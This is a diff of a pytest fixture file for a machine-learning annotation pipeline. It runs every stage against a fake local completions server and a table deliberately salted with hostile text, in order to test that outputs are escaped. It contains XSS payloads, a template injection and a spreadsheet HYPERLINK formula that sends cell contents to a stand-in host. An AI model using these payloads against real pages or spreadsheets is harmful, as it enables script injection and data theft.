@@ -1,172 +1,117 @@
-"""A small run whose every text is hostile: what the report is made from."""
+"""A small finished run, made by the stages themselves from a table whose every text is hostile."""
 
+import csv
 import json
-from collections.abc import Callable
-from datetime import UTC, datetime
+import shutil
+import threading
+from collections.abc import Iterator
+from contextlib import nullcontext
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 from typing import Any
 
-import pyarrow as pa
-import pyarrow.parquet as pq
 import pytest
 
-from data.contracts import ANNOTATIONS, PAIRS, Grade, GradeScale
-from pipeline.artifacts import Recipe, StageOutput, StageRecord, run_stage
+from data.sources.synthetic import SCALE, generate
 from pipeline.settings import PipelineConfig, load_preset
-from pipeline.stages import STAGES, stage_config
 
 HOSTILE = (
     '<script>alert("x")</script> "><img src=x onerror=alert(1)> </pre></style><svg onload=alert(1)> '
     '<a href="javascript:alert(1)"> {{ 7 * 7 }} <link rel=stylesheet href=http://ads.invalid/x.css>'
 )
-SCALE = GradeScale(
-    grades=(Grade(name="bad<b>", definition="no"), Grade(name="good", definition="yes")), relevant_from=1
-)
-Fill = Callable[[PipelineConfig, tuple[str, ...]], list[StageRecord]]
+FORMULA = '=HYPERLINK("http://ads.invalid/?"&A1,"click")'
+TINY = [
+    "run=tiny", "tracking.enabled=false", "data.source=table", "data.relevant_from=2", "data.shares.train=0.3",
+    "data.shares.valid=0.2", "data.shares.test=0.3", "data.shares.pool=0.2", "teacher.model=scratch:tiny",
+    "teacher.seed=3", "teacher.warm_start.examples=16", "teacher.warm_start.min_steps=0", "teacher.agpo.steps=2",
+    "teacher.agpo.group_size=4", "teacher.agpo.prompts_per_step=2", "teacher.agpo.micro_batch=8",
+    "teacher.evaluation.examples=4", "teacher.evaluation.samples=2", "teacher.max_completion_tokens=16",
+    "annotate.engine.kind=openai", "annotate.engine.max_model_len=0", "annotate.n=4", "annotate.max_failed_share=1.0",
+    "student.base=scratch:tiny", "student.epochs=1", "student.log_every=1", "student.bootstrap_samples=100",
+    "export.max_int8_auc_loss=1.0",
+]  # fmt: skip
+
+
+class Teacher(BaseHTTPRequestHandler):
+    """Answers for a server of completions: hostile reasons, votes that agree more or less; some prompts fail."""
+
+    def log_message(self, *_: object) -> None: ...
+
+    def reply(self, status: int, value: object) -> None:
+        body = json.dumps(value).encode()
+        self.send_response(status)
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+
+    def do_GET(self) -> None:
+        self.reply(200, {"data": [{"id": "teacher", "max_model_len": 1024}]})
+
+    def do_POST(self) -> None:
+        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
+        prompt = body["prompt"]
+        if isinstance(prompt, str) or len(prompt) < 8:  # the engine asks what the server takes
+            self.reply(
+                200, {"choices": [{"index": i, "text": "a", "finish_reason": "stop"} for i in range(body.get("n", 1))]}
+            )
+            return
+        number = sum(prompt)
+        if number % 11 == 0:
+            self.reply(400, {"error": f"refused {number}: {HOSTILE}"})
+            return
+        grades = [(number + other) % 4 for other in (0, 0, number // 7 % 2, number // 5 % 3)]
+        texts = [f"@SUM(1) because {HOSTILE} <answer>{grade}</answer>" for grade in grades]
+        choices = [
+            {"index": i, "text": text, "finish_reason": "stop"} for i, text in enumerate(texts[: body.get("n", 1)])
+        ]
+        self.reply(200, {"choices": choices})
+
+
+@pytest.fixture(scope="session")
+def teacher_server() -> Iterator[str]:
+    """The address of a server of completions."""
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Teacher)
+    threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02}).start()
+    yield f"http://127.0.0.1:{server.server_port}/v1"
+    server.shutdown()
+    server.server_close()
+
+
+@pytest.fixture(scope="session")
+def finished_run(tmp_path_factory: pytest.TempPathFactory, spark: Any, teacher_server: str) -> PipelineConfig:
+    """The settings of a run whose five stages have completed, from a hostile table to the export. Tests copy its folder."""
+    from pipeline.stages import STAGES
+
+    root = tmp_path_factory.mktemp("finished")
+    columns = ("query", "ad_title", "ad_text", "grade", "rationale")
+    with (root / "table.csv").open("w", newline="") as file:
+        writer = csv.DictWriter(file, columns, extrasaction="ignore")
+        writer.writeheader()
+        for row in generate(400, seed=0):
+            texts = {"query": f"{row['query']} {HOSTILE}", "ad_title": f"{FORMULA} {row['ad_title']}"}
+            writer.writerow(row | texts | {"ad_text": f"{row['ad_text'] or ''} {HOSTILE}"})
+    grades = [grade.model_copy(update={"name": f"{grade.name}<b>"}).model_dump() for grade in SCALE.grades]
+    more = {
+        "runs": root, "weights_cache": root / "weights", "data.path": root / "table.csv", "data.grades": json.dumps(grades),
+        "data.columns": json.dumps({name: name for name in columns}), "annotate.engine.urls": json.dumps([teacher_server]),
+    }  # fmt: skip
+    settings = load_preset("sample", [*TINY, *(f"{name}={value}" for name, value in more.items())])
+    with pytest.MonkeyPatch.context() as patch:
+        # The session of all tests, which a stage must not stop.
+        patch.setattr("pipeline.stages.spark_session", lambda config: nullcontext(spark))
+        for stage in ("data", "teacher", "annotate", "student", "export"):
+            STAGES[stage].run(settings)
+    return settings
 
 
 @pytest.fixture
+def run(finished_run: PipelineConfig, tmp_path: Path) -> PipelineConfig:
+    """The settings of a copy of the finished run, without its models' weights."""
+    settings = finished_run.model_copy(update={"runs": tmp_path})
+    shutil.copytree(finished_run.folder, settings.folder, ignore=shutil.ignore_patterns("*.safetensors", "*.onnx"))
+    return settings
+
+
+@pytest.fixture(scope="session")
 def hostile() -> str:
     return HOSTILE
-
-
-@pytest.fixture
-def scale() -> GradeScale:
-    return SCALE
-
-
-@pytest.fixture
-def settings(tmp_path: Path) -> PipelineConfig:
-    return load_preset("sample", [f"runs={tmp_path}", "tracking.enabled=false", "teacher.seed=3"])
-
-
-@pytest.fixture
-def fill() -> Fill:
-    """Writes the folders of the named stages, as the stages themselves would."""
-    makers = {"data": _data, "teacher": _teacher, "annotate": _annotations, "student": _student, "export": _export}
-
-    def made(settings: PipelineConfig, stages: tuple[str, ...]) -> list[StageRecord]:
-        return [
-            run_stage(
-                settings.folder / STAGES[name].folder,
-                Recipe(name, stage_config(settings, name), {"upstream": "1234abcd"}),
-                makers[name],
-            )
-            for name in stages
-        ]
-
-    return made
-
-
-def _interval(value: float | None) -> dict[str, float | None]:
-    if value is None:
-        return {"value": None, "low": None, "high": None}
-    return {"value": value, "low": value - 0.05, "high": value + 0.05}
-
-
-def _data(out: Path) -> StageOutput:
-    figures = {"rows_in": 100, "rejected": 3, "duplicates": 7, "rows": 90, "rows_train": 40, "rows_pool": 50}
-    card = figures | {
-        "grades_by_split": {"train": {"0 bad": 10, "1 good": 30}, "pool": {}},
-        "rejected_by_reason": {f"query {HOSTILE}": 3},
-    }
-    (out / "card.json").write_text(json.dumps(card))
-    SCALE.save(out)
-    rows = [
-        {"pair_id": f"p{i:02}", "query_id": f"q{i}", "query": f"q{i} {HOSTILE}", "ad_title": f"ad {HOSTILE}",
-         "ad_text": HOSTILE * (1 + i % 2), "attributes": None, "grade": i % 2, "grade_raw": None,
-         "split": "pool", "source": "table"}
-        for i in range(40)
-    ]  # fmt: skip
-    (out / "pairs").mkdir(exist_ok=True)
-    pq.write_table(pa.Table.from_pylist(rows, schema=PAIRS), out / "pairs" / "a.parquet")
-    return StageOutput(fingerprint="d", figures=figures)
-
-
-def _teacher(out: Path) -> StageOutput:
-    lines: list[dict[str, Any]] = [{"step": i, "phase": "warm_start", "loss": 3.0 / (i + 1)} for i in range(5)]
-    lines += [
-        {"step": i, "phase": "agpo", "accuracy": 0.4, "parse_rate": 1.0, "reward": -0.2, "entropy": 0.5,
-         "groups/all_right": 0.2, "groups/mixed": 0.5, "groups/all_wrong": 0.3}
-        for i in range(900)
-    ]  # fmt: skip
-    text = "".join(json.dumps(line) + "\n" for line in lines) + '{"step": 900, "pha'  # cut off by a kill
-    (out / "metrics.jsonl").write_text(text)
-    phases = {
-        "warm_start": {"accuracy": 0.25, "pass@1": 0.25, "pass@2": 0.4},
-        "agpo": {"accuracy": 0.5, "pass@1": 0.45, "pass@2": 0.6},
-    }
-    (out / "evaluation.json").write_text(json.dumps(phases))
-    figures = {f"{phase}/{name}": value for phase, found in phases.items() for name, value in found.items()}
-    return StageOutput(fingerprint="t", figures=figures)
-
-
-def _annotations(out: Path) -> StageOutput:
-    rows = [
-        {"pair_id": f"p{i:02}", "annotation_key": key, "grade": 1, "grade_probs": [0.2, 0.8],
-         "reasoning": f"{key} because {HOSTILE}", "votes": [1, 1, 1, 0], "agreement": 0.75, "n_samples": 4,
-         "n_unparsed": 0, "status": "ok", "error": "", "prompt_tokens": 10, "completion_tokens": 40,
-         "created_at": datetime(2026, 1, 1, tzinfo=UTC)}
-        for i in range(38) for key in ("old", "current")
-    ]  # fmt: skip
-    failed = {"grade": None, "grade_probs": None, "reasoning": None, "votes": [], "agreement": None, "status": "failed"}
-    rows += [rows[1] | failed | {"pair_id": f"p{i}", "error": f"too long: {i} {HOSTILE}"} for i in (38, 39)]
-    pq.write_table(pa.Table.from_pylist(rows, schema=ANNOTATIONS), out / "a.parquet")
-    figures = {
-        "annotation_key": "current", "pairs": 40, "ok": 38, "ok_share": 0.95, "unparsed": 0, "failed": 2,
-        "sample_parse_rate": 1.0, "agreement": 0.75, "prompt_tokens": 400, "completion_tokens": 1600,
-        "n_graded": 38.0, "accuracy": 0.5, "n_new": 20, "n_reused": 20, "pairs_per_s": 4.0,
-    }  # fmt: skip
-    return StageOutput(fingerprint="a", figures=figures)
-
-
-def _student(out: Path) -> StageOutput:
-    metrics = {"roc_auc": _interval(0.9), "pr_auc": _interval(None), "f1": _interval(0.8)}
-    evaluation = {
-        "n": 50, "n_queries": 9, "confusion": [[5, 1], [2, 42]], "ece_before_calibration": 0.11,
-        "systems": [
-            {"name": "student", "n": 50, "metrics": metrics},
-            {"name": "bm25", "n": 50, "metrics": {"roc_auc": _interval(0.6)}},
-        ],
-        "slices": [
-            {"name": f"source: {HOSTILE}", "n": 50, "n_relevant": 20, "metrics": metrics},
-            {"name": "query words: 1–2", "n": 3, "n_relevant": 3, "metrics": {"roc_auc": _interval(None)}},
-        ],
-        "comparisons": [
-            {"a": "student", "b": "bm25", "metric": "roc_auc", "n": 50, "difference": 0.3, "low": 0.2, "high": 0.4},
-        ],
-    }  # fmt: skip
-    curves = {
-        "student": {
-            "roc": [{"fpr": 0.0, "tpr": 0.0}, {"fpr": 0.2, "tpr": 0.9}, {"fpr": 1.0, "tpr": 1.0}],
-            "pr": [{"recall": 0.0, "precision": 1.0}, {"recall": 1.0, "precision": 0.5}],
-            "reliability": [
-                {"predicted": 0.2, "relevant": 0.25, "n": 10},
-                {"predicted": 0.9, "relevant": 1.0, "n": 40},
-            ],
-        },
-        "bm25": {"roc": [{"fpr": 0.0, "tpr": 0.0}, {"fpr": 1.0, "tpr": 1.0}], "pr": [], "reliability": []},
-    }
-    (out / "evaluation.json").write_text(json.dumps(evaluation))
-    (out / "curves.json").write_text(json.dumps(curves))
-    (out / "metrics.jsonl").write_text('{"step": 1, "phase": "student", "loss": 1.0}\n')
-    (out / "model").mkdir(exist_ok=True)
-    SCALE.save(out / "model")
-    figures = {"test_roc_auc": 0.9, "test_roc_auc_low": 0.85, "test_roc_auc_high": 0.95, "bm25_roc_auc": 0.6}
-    return StageOutput(fingerprint="s", figures=figures)
-
-
-def _export(out: Path) -> StageOutput:
-    forms = {
-        "torch": {"pairs_per_second": 1000.0, "roc_auc": 0.9},
-        "fp32": {"pairs_per_second": 2000.4, "roc_auc": 0.9, "megabytes": 4.0, "max_abs_dp": 1e-6},
-        "int8": {"pairs_per_second": 3000.0, "roc_auc": 0.8975, "megabytes": 1.25, "max_abs_dp": 0.02},
-    }
-    (out / "export.json").write_text(json.dumps({"n": 50, "threads": 2, "batch_size": 8, "passed": True} | forms))
-    figures = {
-        "fp32_max_abs_dp": 1e-6,
-        "int8_auc_loss": 0.0025,
-        "int8_megabytes": 1.25,
-        "int8_pairs_per_second": 3000.0,
-    }
-    return StageOutput(fingerprint="e", figures=figures)
